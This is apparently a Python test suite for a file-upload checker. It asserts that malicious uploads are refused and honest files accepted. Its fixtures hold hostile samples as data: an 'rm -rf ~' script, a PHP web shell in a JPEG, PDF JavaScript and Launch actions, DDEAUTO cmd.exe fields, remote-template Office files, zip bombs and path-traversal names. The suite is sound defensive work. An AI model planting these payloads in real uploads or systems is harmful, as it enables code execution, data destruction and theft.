"""Files that somebody sends to do harm: each refused with a sentence, and harmless ones taken."""

from __future__ import annotations

import io
import random
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

import pytest
from django.utils import translation

from teraju.modules.integrity.concerns.uploads import CheckedFile, check
from teraju.platform.files.tests.contents import (
    JPEG,
    MACRO_SHEET,
    PDF,
    PNG,
    SHEET,
    WEBP,
    WORD,
    office,
    open_document,
)
from teraju.platform.filetypes.refusals import FileRefused

MB = 1024 * 1024


@pytest.fixture(autouse=True)
def in_english() -> Iterator[None]:
    with translation.override("en"):
        yield


def look(name: str, content: bytes, *, size: int | None = None) -> CheckedFile:
    return check(BytesIO(content), name, size=len(content) if size is None else size)


def refused(name: str, content: bytes) -> str:
    with pytest.raises(FileRefused) as error:
        look(name, content)
    sentence = str(error.value)
    assert sentence.endswith(".")
    return sentence


def pdf(objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + objects + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed(objects: bytes) -> bytes:
    stream = zlib.compress(objects)
    return b"5 0 obj << /Type /ObjStm >>\nstream\n" + stream + b"\nendstream endobj"


def with_parts(whole: bytes, **parts: bytes) -> bytes:
    """An office file with more parts; `__` stands for a slash and `_dot_` for a dot."""
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, "a") as package:
        for name, content in parts.items():
            package.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" '
        f'TargetMode="External"/></Relationships>'
    ).encode()


SCRIPTS = {
    "a page as a picture": ("foto.png", b"<!DOCTYPE html><script>alert(1)</script>"),
    "a drawing": ("foto.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
    "a drawing as text": ("catatan.txt", b"<svg onload='x()'></svg>"),
    "a page after blanks": ("catatan.txt", b" " * 900 + b"<html><script>x</script>"),
    "a shell script": ("catatan.txt", b"#!/bin/sh\nrm -rf ~\n"),
    "a program": ("surat.pdf", b"MZ" + bytes(400)),
    "a program of Linux": ("foto.jpg", b"\x7fELF" + bytes(400)),
    "a short cut": ("surat.txt", b"L\0\0\0\x01\x14\x02\0" + bytes(200)),
    "a script in a picture": ("foto.png", PNG + b"<script src='https://x.example/'></script>"),
    "PHP in a picture": ("foto.jpg", JPEG + b"<?php system($_GET['c']); ?>"),
    "a page in a picture": ("foto.webp", WEBP + b"<HTML><body onload=x>"),
    "a drawing in a picture": ("foto.png", PNG + b"<SVG onload=x>"),
}
PDFS = {
    "a script": b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
    "a script by half a name": b"1 0 obj << /S /Foo /JS (x) >> endobj",
    "a script in escapes": b"1 0 obj << /S /J#61va#53cript >> endobj",
    "a launcher": b"1 0 obj << /S /Launch /F (cmd.exe) >> endobj",
    "another file": b"1 0 obj << /EmbeddedFiles 2 0 R >> endobj",
    "a form that sends itself": b"1 0 obj << /S /SubmitForm /F (https://x.example) >> endobj",
    "another document": b"1 0 obj << /S /GoToR /F (//x.example/a.pdf) >> endobj",
    "a film": b"1 0 obj << /Subtype /RichMedia >> endobj",
    "a dynamic form": b"1 0 obj << /AcroForm << /XFA 3 0 R >> >> endobj",
    "a script in a packed object": packed(b"1 0 << /S /JavaScript /JS (x) >>"),
    "a script in an open stream of objects": (
        b"5 0 obj << /Type /ObjStm >>\nstream\n1 0 << /S /JavaScript >>\nendstream endobj"
    ),
    "objects that nobody can look at": (
        b"5 0 obj << /Type /ObjStm /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream endobj"
    ),
    "an escaped script in a packed object": packed(b"1 0 << /S /#4aavascript >>"),
    "objects far behind the words that say so": (
        b"5 0 obj << /Type /ObjStm /Filter /LZWDecode" + b" " * 500 + b">>\nstream\n\x80\x0b\n"
        b"endstream endobj"
    ),
    "packed objects that are called so in escapes": (
        b"5 0 obj << /Type /Obj#53tm /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream endobj"
    ),
}
OFFICE = {
    "macros": office(MACRO_SHEET),
    "a template from elsewhere": with_parts(
        office(WORD),
        word___rels__settings_dot_xml_dot_rels=relation("attachedTemplate", "https://x.example/t"),
    ),
    "a picture from elsewhere": with_parts(
        office(WORD), word___rels__document_dot_xml_dot_rels=relation("image", "https://x.example")
    ),
    "an embedded object": with_parts(office(WORD), word__embeddings__oleObject1_dot_bin=b"x"),
    "a link to another book": with_parts(
        office(SHEET), xl__externalLinks__externalLink1_dot_xml=b"<externalLink/>"
    ),
    "a command in a field": with_parts(
        office(WORD),
        word__footer1_dot_xml=b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>",
    ),
    "a link that runs": with_parts(office(SHEET), xl__x_dot_xml=b'<ddeLink ddeService="cmd"/>'),
    "a template from a place that is called a link": with_parts(
        office(WORD),
        word___rels__settings_dot_xml_dot_rels=relation(
            "attachedTemplate", "https://x.example/hyperlink"
        ),
    ),
    "a template in other quotes": with_parts(
        office(WORD),
        word___rels__settings_dot_xml_dot_rels=relation("image", "https://x").replace(b'"', b"'"),
    ),
    "a template under a prefix": with_parts(
        office(WORD),
        word___rels__settings_dot_xml_dot_rels=relation("image", "https://x")
        .replace(b"<Rel", b"<p:Rel")
        .replace(b"</Rel", b"</p:Rel"),
    ),
    "a template in letters of two bytes": with_parts(
        office(WORD),
        word___rels__settings_dot_xml_dot_rels=relation("image", "https://x")
        .decode()
        .encode("utf-16"),
    ),
    "a page as a part": with_parts(
        office(WORD),
        word___rels__document_dot_xml_dot_rels=relation("aFChunk", "/word/a.htm").replace(
            b"External", b"Internal"
        ),
    ),
    "an object under another name": with_parts(
        office(WORD),
        word___rels__document_dot_xml_dot_rels=relation("oleObject", "x.bin").replace(
            b"External", b"Internal"
        ),
    ),
    "a picture in a simple field": with_parts(
        office(WORD),
        word__footer1_dot_xml=b"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"https://x\" '/></w:p>",
    ),
    "a command in pieces": with_parts(
        office(WORD),
        word__footer1_dot_xml=(
            b"<w:p><w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO c:\\x</w:instrText></w:p>"
        ),
    ),
    "a command far behind": with_parts(
        office(WORD),
        word__footer1_dot_xml=(
            b"<w:p>" + b"<w:r/>" * (2 * MB) + b"<w:instrText>DDE x</w:instrText></w:p>"
        ),
    ),
    "a sheet that fetches": with_parts(
        office(SHEET), xl__x_dot_xml=b'<c><f>_xlfn.WEBSERVICE("https://x.example")</f></c>'
    ),
    "a document type": with_parts(
        office(WORD), word__footer1_dot_xml=b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"
    ),
}


@pytest.mark.parametrize("what", SCRIPTS)
def test_scripts_and_programs_are_refused(what):
    refused(*SCRIPTS[what])


@pytest.mark.parametrize("what", PDFS)
def test_a_pdf_that_does_something_is_refused(what):
    assert "PDF" in refused("surat.pdf", pdf(PDFS[what]))


@pytest.mark.parametrize("what", OFFICE)
def test_an_office_file_that_does_something_is_refused(what):
    refused("surat.xlsx" if what in ("macros",) else "surat", OFFICE[what])


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    "content",
    [
        b'<draw:image xlink:href="https://x.example/seen.png"/>',
        b"<draw:image xlink:href='https://x.example/seen.png'/>",
        b'<draw:image xlink:href="//x.example/share/seen.png"/>',
        b'<text:section-source xlink:href="../rahasia.odt"/>',
        b'<script:event-listener xlink:href="vnd.sun.star.script:x?language=Basic"/>',
        b'<office:dde-source office:dde-application="soffice"/>',
    ],
)
def test_an_open_document_that_fetches_something_is_refused(content):
    refused("surat.odt", with_parts(open_document("text"), content_dot_xml=content))


class TestPolyglots:
    @pytest.mark.parametrize(
        ("name", "whole"), [("surat.pdf", PDF), ("foto.png", PNG), ("foto.jpg", JPEG)]
    )
    def test_a_document_that_is_an_archive_at_its_end(self, name, whole):
        assert "hides another" in refused(name, whole + archive(rahasia=b"x" * 100))

    def test_an_archive_with_a_document_before_it(self):
        refused("surat.pdf", archive(a=b"x") + PDF)

    def test_a_page_with_the_head_of_a_document_further_down(self):
        refused("surat.pdf", b"<html>\n" + PDF)

    def test_a_document_under_a_false_name(self):
        assert "true name" in refused("foto.png", PDF)
        assert "true name" in refused("surat.docx", office(SHEET))


class TestBombs:
    def test_a_package_that_unpacks_to_gigabytes(self):
        bomb = archive(**{"[Content_Types].xml": WORD, "word/document.xml": b"\0" * (420 * MB)})
        tracemalloc.start()
        refused("surat.docx", bomb)
        _now, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert most < 64 * MB

    def test_a_pdf_whose_streams_unpack_to_gigabytes(self):
        stream = zlib.compress(b"<<" + b" " * (40 * MB), 9)
        one = b"1 0 obj << >>\nstream\n" + stream + b"\nendstream endobj\n"
        tracemalloc.start()
        refused("surat.pdf", pdf(one * 60))
        _now, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert most < 64 * MB

    def test_a_picture_of_billions_of_points(self):
        head = PNG[:16] + struct.pack(">II", 60_000, 60_000) + PNG[24:]
        assert "far more" in refused("foto.png", head)

    def test_thousands_of_entries(self):
        refused("surat.docx", archive(**{f"a{n}": b"" for n in range(5100)}))

    def test_a_package_within_a_package(self):
        inner = archive(a=b"\0" * (10 * MB))
        refused("arsip.zip", archive(a=inner, b=inner))


class TestSize:
    def test_what_was_sent_counts_and_not_what_was_kept(self):
        with pytest.raises(FileRefused, match="larger than 20 MB"):
            look("surat.pdf", b"", size=200 * MB)

    def test_the_largest_that_is_taken(self):
        content = PNG + bytes(20 * MB - len(PNG))
        assert look("foto.png", content).content == content
        refused("foto.png", content + b"\0")

    def test_nothing_at_all(self):
        assert "empty" in refused("surat.pdf", b"")


class TestNames:
    @pytest.mark.parametrize(
        ("sent", "kept"),
        [
            ("../../etc/passwd.png", "passwd.png"),
            ("C:\\Users\\siti\\foto.png", "foto.png"),
            ("foto\u202egnp.png", "fotognp.png"),
            ("foto\x00.png", "foto.png"),
            ("  .png", "png.png"),
            ("x" * 400 + ".png", "x" * 146 + ".png"),
        ],
    )
    def test_a_name_is_made_harmless(self, sent, kept):
        assert look(sent, PNG).name == kept


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("surat.pdf", PDF),
        ("foto.png", PNG),
        ("foto.jpg", JPEG),
        ("foto.webp", WEBP),
        ("surat.docx", office(WORD)),
        ("daftar.xlsx", office(SHEET)),
        ("surat.odt", open_document("text")),
        ("catatan.txt", b"Uang di laci: 5 < 7 juta, lihat https://contoh.example"),
        ("daftar.csv", b"tanggal;jumlah\r\n1;2\r\n"),
        # What looks like something and is none of it.
        ("surat.pdf", pdf(b"1 0 obj << /URI (https://contoh.example) >> endobj")),
        ("surat.pdf", pdf(b"1 0 obj << /JSON 1 /Launcher 2 >> endobj")),
        ("surat.pdf", pdf(packed(b"1 0 << /Type /Page >>"))),
        (
            "surat.docx",
            with_parts(
                office(WORD),
                word___rels__document_dot_xml_dot_rels=relation("hyperlink", "https://contoh"),
            ),
        ),
        (
            "surat.docx",
            with_parts(office(WORD), word__footer1_dot_xml=b"<w:instrText> PAGE </w:instrText>"),
        ),
        ("surat.docx", with_parts(office(WORD), word__empty_dot_xml=b"")),
        (
            "daftar.xlsx",
            with_parts(office(SHEET), xl__x_dot_xml=b"<c><f>SUM(A1:A9)</f><v>9</v></c>"),
        ),
    ],
)
def test_honest_files_are_taken(name, content):
    assert look(name, content).content == content


def test_a_photograph_is_not_taken_for_a_script_by_chance():
    """Twenty megabytes of noise hold every four letters somewhere."""
    noise = random.Random(7741).randbytes(8 * MB)
    for mark in (b"<svg", b"<SvG", b"<html", b"/js", b"<object"):
        look("foto.jpg", JPEG + noise + mark + b"\x01" + noise)
